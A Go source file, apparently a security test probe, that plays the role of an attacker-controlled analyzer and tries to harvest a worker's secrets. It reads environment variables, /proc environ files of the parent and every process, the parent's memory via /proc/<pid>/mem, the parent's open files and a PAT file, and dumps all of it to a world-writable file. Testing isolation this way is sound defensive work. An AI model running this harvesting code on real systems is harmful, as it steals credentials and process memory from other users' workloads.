package main

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// maxMemBytes bounds how much of the parent's memory the probe reads.
const maxMemBytes = 256 << 20

// probeSecrets tries, as an analyzer an attacker controls would, every
// route a process of the same user has to the worker's secrets: its own
// environment, /proc/<pid>/environ of its parent (the worker) and of every
// other process, the parent's memory through /proc/<ppid>/mem, the regular
// files the parent holds open, and the PAT file. All it read goes to out;
// each route becomes one result saying how many bytes it read or why it
// could not.
func probeSecrets(out, file, patFile string) []any {
	dump, err := os.OpenFile(out, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o666)
	if err != nil {
		panic(err)
	}
	defer dump.Close()
	var results []any
	report := func(route string, data []byte, err error) {
		if err != nil {
			results = append(results, result("probe", file, route+": error: "+err.Error(), 1))
			return
		}
		fmt.Fprintf(dump, "\n== %s\n", route)
		dump.Write(data)
		results = append(results, result("probe", file, fmt.Sprintf("%s: read %d bytes", route, len(data)), 1))
	}

	report("env", []byte(strings.Join(os.Environ(), "\n")), nil)
	ppid := os.Getppid()
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", ppid))
	report("parent environ", data, err)
	data, err = readMem(ppid)
	report("parent mem", data, err)
	entries, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", ppid))
	report("parent fd", nil, err)
	for _, e := range entries {
		name := fmt.Sprintf("/proc/%d/fd/%s", ppid, e.Name())
		if info, err := os.Stat(name); err == nil && info.Mode().IsRegular() {
			data, err := os.ReadFile(name)
			report("parent fd "+e.Name(), data, err)
		}
	}
	if patFile != "" {
		data, err := os.ReadFile(patFile)
		report("PAT file", data, err)
	}
	pids, _ := filepath.Glob("/proc/[0-9]*")
	readable := 0
	for _, p := range pids {
		if data, err := os.ReadFile(p + "/environ"); err == nil {
			readable++
			fmt.Fprintf(dump, "\n== %s/environ\n", p)
			dump.Write(data)
		}
	}
	results = append(results, result("probe", file, fmt.Sprintf("every environ: %d of %d readable", readable, len(pids)), 1))
	return results
}

// readMem reads the readable mappings of process pid through its mem file.
func readMem(pid int) ([]byte, error) {
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return nil, err
	}
	defer mem.Close()
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return nil, err
	}
	defer maps.Close()
	var out []byte
	sc := bufio.NewScanner(maps)
	for sc.Scan() && len(out) < maxMemBytes {
		fields := strings.Fields(sc.Text())
		if len(fields) < 2 || !strings.HasPrefix(fields[1], "r") {
			continue
		}
		from, to, ok := strings.Cut(fields[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseUint(from, 16, 64)
		end, err2 := strconv.ParseUint(to, 16, 64)
		if err1 != nil || err2 != nil || end <= start {
			continue
		}
		n := min(end-start, uint64(maxMemBytes-len(out)))
		buf := make([]byte, n)
		got, _ := mem.ReadAt(buf, int64(start))
		out = append(out, buf[:got]...)
	}
	if len(out) == 0 {
		return nil, io.ErrUnexpectedEOF
	}
	return out, sc.Err()
}
